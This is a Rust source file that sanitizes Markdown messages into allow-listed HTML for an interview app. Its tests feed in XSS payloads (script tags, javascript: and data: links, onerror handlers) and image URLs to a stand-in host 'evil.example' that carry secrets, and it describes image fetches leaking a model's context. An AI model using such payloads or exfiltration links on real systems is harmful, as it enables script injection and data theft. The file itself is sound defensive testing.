//! Message Markdown to HTML through an explicit allow-list ([`render_markdown`]): the one place
//! stored text becomes markup for `inner_html`. Kept in its own file, apart from the interview
//! view conversions that call it, because its rules and their tests are a security boundary.

/// Renders a message's Markdown to HTML through an explicit allow-list. The text may come from
/// the candidate, the model or a job description, and reviewers read it too, so none of it may
/// run script, restyle the page or make a reader's browser fetch anything by itself:
///
/// - no images at all: `![alt](url)` shows its alt text, raw `<img>` is dropped (an image URL
///   is fetched on sight and can carry what the model was told, to anyone's server);
/// - links only to `http`, `https` and `mailto` URLs (no relative, `javascript:` or `data:`),
///   with `rel="noopener noreferrer nofollow"`, no `target`, and `class="external"`, which
///   `style/tailwind.css` marks with a trailing arrow; a Markdown link to anything else is
///   shown as its text;
/// - text structure only: paragraphs, emphasis, code, quotes, lists, headings, rules; no
///   attributes besides `href` and a list's `start`.
///
/// This is the one function that turns stored text into HTML for `inner_html`.
pub fn render_markdown(text: &str) -> String {
    use pulldown_cmark::{Event, LinkType, Tag, TagEnd};
    let parser =
        pulldown_cmark::Parser::new_ext(text, pulldown_cmark::Options::ENABLE_STRIKETHROUGH);
    // Whether each open Markdown link is kept (links do not nest, but track them anyway).
    let mut links: Vec<bool> = Vec::new();
    let events = parser.filter(|event| match event {
        Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) => false,
        Event::Start(Tag::Link {
            link_type,
            dest_url,
            ..
        }) => {
            // An email autolink's destination is the bare address; `mailto:` is added on output.
            let keep = *link_type == LinkType::Email || allowed_link(dest_url);
            links.push(keep);
            keep
        }
        Event::End(TagEnd::Link) => links.pop().unwrap_or(false),
        _ => true,
    });
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, events);
    markdown_sanitizer().clean(&html).to_string()
}

/// URL schemes a message may link to.
const LINK_SCHEMES: [&str; 3] = ["http", "https", "mailto"];

/// Whether a Markdown link's destination is one [`LINK_SCHEMES`] allows. The sanitizer checks
/// every `href` again; this only keeps a refused link's text from rendering as a dead anchor.
fn allowed_link(url: &str) -> bool {
    let lower = url.trim_start().to_ascii_lowercase();
    LINK_SCHEMES.iter().any(|scheme| {
        lower
            .strip_prefix(scheme)
            .is_some_and(|rest| rest.starts_with(':'))
    })
}

/// The HTML allow-list for rendered messages (see [`render_markdown`]).
fn markdown_sanitizer() -> ammonia::Builder<'static> {
    use std::collections::{HashMap, HashSet};
    let tags = HashSet::from([
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "strong",
        "ul",
    ]);
    let attributes = HashMap::from([
        ("a", HashSet::from(["href"])),
        ("ol", HashSet::from(["start"])),
    ]);
    let mut builder = ammonia::Builder::default();
    builder
        .tags(tags)
        .tag_attributes(attributes)
        .generic_attributes(HashSet::new())
        .url_schemes(HashSet::from(LINK_SCHEMES))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "class", "external");
    builder
}

#[cfg(test)]
mod tests {
    use super::render_markdown;

    #[test]
    fn markdown_is_sanitised() {
        let html = render_markdown("**bold** <script>alert(1)</script> [x](javascript:alert(1)) <img src=x onerror=alert(1)>");
        assert!(html.contains("<strong>bold</strong>"));
        assert!(!html.contains("<script"));
        assert!(!html.contains("javascript:"));
        assert!(!html.contains("onerror"));
    }

    /// Nothing in `html` makes a browser fetch anything by itself.
    fn inert(html: &str) {
        for banned in [
            "<img", "<source", "<image", "<svg", "<picture", "src", "href", "evil",
        ] {
            assert!(!html.contains(banned), "{banned} survived: {html}");
        }
    }

    #[test]
    fn raw_images_are_dropped() {
        for input in [
            "<img src=https://evil.example/x.png>",
            "<img src=\"https://evil.example/x.png?d=secret\" alt=x>",
            "<p><img srcset=\"https://evil.example/x.png 1x\"></p>",
            "<picture><source srcset=https://evil.example/x.png></picture>",
            "<svg><image href=https://evil.example/x.png /></svg>",
        ] {
            inert(&render_markdown(input));
        }
    }

    #[test]
    fn markdown_images_show_their_alt_text_only() {
        let html = render_markdown("see ![the chart](https://evil.example/p.png?secret=42) here");
        inert(&html);
        assert!(!html.contains("secret"), "{html}");
        assert!(html.contains("the chart"), "{html}");
        let reference = render_markdown("![x][img]\n\n[img]: https://evil.example/p.png");
        inert(&reference);
        let linked = render_markdown("[![logo](https://evil.example/l.png)](https://example.com/)");
        assert!(!linked.contains("evil"), "{linked}");
        assert!(linked.contains("href=\"https://example.com/\""), "{linked}");
    }

    #[test]
    fn script_and_data_links_lose_their_target_but_keep_their_text() {
        for input in [
            "[a](javascript:alert(1))",
            "[a](JavaScript:alert(1))",
            "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[a](vbscript:msgbox)",
            "[a](/admin/users)",
            "[a](//evil.example/x)",
            "<a href=\"javascript:alert(1)\">a</a>",
            "<a href=\"data:text/html,hi\">a</a>",
        ] {
            let html = render_markdown(input);
            assert!(!html.contains("href"), "{input}: {html}");
            assert!(!html.contains("javascript"), "{input}: {html}");
            assert!(!html.contains("data:"), "{input}: {html}");
            assert!(html.contains('a'), "{input}: {html}");
        }
        let markdown = render_markdown("[a](javascript:alert(1))");
        assert!(
            !markdown.contains("<a"),
            "a refused Markdown link is plain text: {markdown}"
        );
    }

    #[test]
    fn web_links_are_marked_external_and_open_nothing_new() {
        let html = render_markdown("Read [the docs](https://example.com/docs?a=1&b=2).");
        assert!(
            html.contains("href=\"https://example.com/docs?a=1&amp;b=2\""),
            "{html}"
        );
        assert!(
            html.contains("rel=\"noopener noreferrer nofollow\""),
            "{html}"
        );
        assert!(html.contains("class=\"external\""), "{html}");
        assert!(html.contains(">the docs</a>"), "{html}");
        assert!(!html.contains("target"), "{html}");

        let raw = render_markdown(
            "<a href=\"http://example.com\" target=\"_blank\" rel=\"opener\" onclick=\"x()\" title=t>x</a>",
        );
        assert!(raw.contains("href=\"http://example.com\""), "{raw}");
        assert!(
            raw.contains("rel=\"noopener noreferrer nofollow\""),
            "{raw}"
        );
        assert!(!raw.contains("target") && !raw.contains("onclick") && !raw.contains("opener\""));

        let auto = render_markdown("<https://example.com/a>");
        assert!(auto.contains("href=\"https://example.com/a\""), "{auto}");
        assert!(auto.contains("class=\"external\""), "{auto}");
    }

    #[test]
    fn mailto_links_are_kept() {
        let html = render_markdown("Write to [the recruiter](mailto:jobs@example.com).");
        assert!(html.contains("href=\"mailto:jobs@example.com\""), "{html}");
        assert!(
            html.contains("rel=\"noopener noreferrer nofollow\""),
            "{html}"
        );
        let auto = render_markdown("<jobs@example.com>");
        assert!(auto.contains("href=\"mailto:jobs@example.com\""), "{auto}");
    }

    #[test]
    fn text_structure_survives() {
        let html = render_markdown(
            "# Plan\n\n1. one\n2. *two*\n\n> quoted\n\n```\nlet x = 1;\n```\n\n~~old~~ `code`",
        );
        for tag in [
            "<h1>",
            "<ol>",
            "<li>",
            "<em>",
            "<blockquote>",
            "<pre>",
            "<code>",
            "<del>",
        ] {
            assert!(html.contains(tag), "{tag} missing: {html}");
        }
    }
}
